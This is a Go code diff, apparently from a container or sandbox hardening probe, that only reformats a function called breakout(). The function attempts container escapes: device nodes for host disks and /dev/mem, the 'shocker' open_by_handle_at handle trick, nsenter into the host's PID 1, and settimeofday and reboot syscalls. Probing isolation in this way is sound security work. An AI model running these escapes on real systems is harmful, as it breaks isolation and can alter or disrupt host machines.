@@ -39,10 +39,16 @@ func breakout() {
 		mode uint32
 		dev  uint64
 	}{
-		{"sda", unix.S_IFBLK, unix.Mkdev(8, 0)}, {"vda", unix.S_IFBLK, unix.Mkdev(254, 0)}, {"vda1", unix.S_IFBLK, unix.Mkdev(253, 0)},
-		{"nvme", unix.S_IFBLK, unix.Mkdev(259, 0)}, {"loop", unix.S_IFBLK, unix.Mkdev(7, 0)},
-		{"mem", unix.S_IFCHR, unix.Mkdev(1, 1)}, {"port", unix.S_IFCHR, unix.Mkdev(1, 4)}, {"kmsg", unix.S_IFCHR, unix.Mkdev(1, 11)},
-		{"tty1", unix.S_IFCHR, unix.Mkdev(4, 1)}, {"kvm", unix.S_IFCHR, unix.Mkdev(10, 232)},
+		{"sda", unix.S_IFBLK, unix.Mkdev(8, 0)},
+		{"vda", unix.S_IFBLK, unix.Mkdev(254, 0)},
+		{"vda1", unix.S_IFBLK, unix.Mkdev(253, 0)},
+		{"nvme", unix.S_IFBLK, unix.Mkdev(259, 0)},
+		{"loop", unix.S_IFBLK, unix.Mkdev(7, 0)},
+		{"mem", unix.S_IFCHR, unix.Mkdev(1, 1)},
+		{"port", unix.S_IFCHR, unix.Mkdev(1, 4)},
+		{"kmsg", unix.S_IFCHR, unix.Mkdev(1, 11)},
+		{"tty1", unix.S_IFCHR, unix.Mkdev(4, 1)},
+		{"kvm", unix.S_IFCHR, unix.Mkdev(10, 232)},
 	} {
 		path := filepath.Join(dir, d.name)
 		try("mknod "+d.name, unix.Mknod(path, d.mode|0o666, int(d.dev)))
@@ -133,14 +139,16 @@ func breakout() {
 	call("settimeofday", unix.SYS_SETTIMEOFDAY, uintptr(unsafe.Pointer(&unix.Timeval{Sec: 1})), 0)
 	call("syslog", unix.SYS_SYSLOG, 3, uintptr(unsafe.Pointer(&make([]byte, 64)[0])), 64)
 	call("acct", unix.SYS_ACCT, 0)
-	for nr := uintptr(0); nr < 2; nr++ { // shocker: handles of the host's root
+	for nr := range uintptr(2) { // shocker: handles of the host's root
 		h := make([]byte, 8+8)
 		h[0], h[4], h[8] = 8, 1, byte(2+nr)
 		call("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, uintptr(root), uintptr(unsafe.Pointer(&h[0])), unix.O_RDONLY)
 	}
 	cmd := exec.Command("/bin/sh", "-c", "id -u; mount -t tmpfs x /mnt && touch /mnt/"+mark+"; cat /proc/1/root/etc/hostname; nsenter -t 1 -a hostname "+mark)
-	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
-		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}}
+	cmd.SysProcAttr = &syscall.SysProcAttr{
+		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
+		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
+	}
 	out, err := cmd.CombinedOutput()
 	fmt.Printf("nested namespaces: %v %q\n", err, out)
 	call("reboot", unix.SYS_REBOOT, 0xfee1dead, 672274793, 0x89abcdef) // only Ctrl-Alt-Del off
